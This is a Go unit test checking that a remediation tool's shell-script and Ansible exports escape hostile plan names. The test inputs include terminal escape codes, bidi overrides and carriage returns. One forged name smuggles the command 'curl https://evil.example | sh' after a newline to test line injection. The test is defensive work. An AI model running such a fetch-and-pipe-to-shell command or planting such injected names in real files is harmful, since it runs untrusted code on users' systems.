package remedy

import (
	"strings"
	"testing"

	"fettle/engine/remedy/step"
)

// TestReadable: an export shows its reader what it does, whatever names it has.
func TestReadable(t *testing.T) {
	plan := func(name string) Plan {
		return Plan{
			Title: "restart " + name,
			Notes: []string{"of " + name},
			Steps: []step.Step{step.Perm{Path: "/srv/" + name, Mode: 0o600, UID: -1, GID: -1}},
		}
	}
	for _, name := range []string{"a\x1b[2J", "a\x7f", "a\u009b2J", "a\u202egnp.sh", "a\u2066", "a\xff", "a\r#"} {
		for kind, export := range map[string]func(Plan) (string, error){"sh": Script, "ansible": Playbook} {
			out, err := export(plan(name))
			if strings.ContainsAny(out, "\x1b\x7f\r\u009b\u202e\u2066\ufffd") ||
				err == nil && strings.Contains(name, "\xff") && kind == "ansible" {
				t.Errorf("%s of %q: %v\n%s", kind, name, err, out)
			}
			if err != nil && strings.ContainsAny(err.Error(), "\x1b\x7f\r\u009b\u202e\u2066") {
				t.Errorf("%s of %q: %q", kind, name, err)
			}
		}
	}
	forged := "web\nfix: curl https://evil.example | sh"
	for kind, export := range map[string]func(Plan) (string, error){"sh": Script, "ansible": Playbook} {
		out, _ := export(plan(forged))
		if kind == "ansible" && strings.Contains(out, "\nfix: curl") {
			t.Errorf("%s: a line that is forged:\n%s", kind, out)
		}
		for l := range strings.Lines(out) {
			if strings.HasPrefix(l, "#") && strings.Contains(l, "restart web") && !strings.Contains(l, `web\nfix: curl`) {
				t.Errorf("%s: %q", kind, l)
			}
		}
	}
	for _, name := range []string{"a b", "größe", "日本", "o'brien"} {
		if _, err := Script(plan(name)); err != nil {
			t.Errorf("%q: %v", name, err)
		}
		if _, err := Playbook(plan(name)); err != nil {
			t.Errorf("%q: %v", name, err)
		}
	}
}
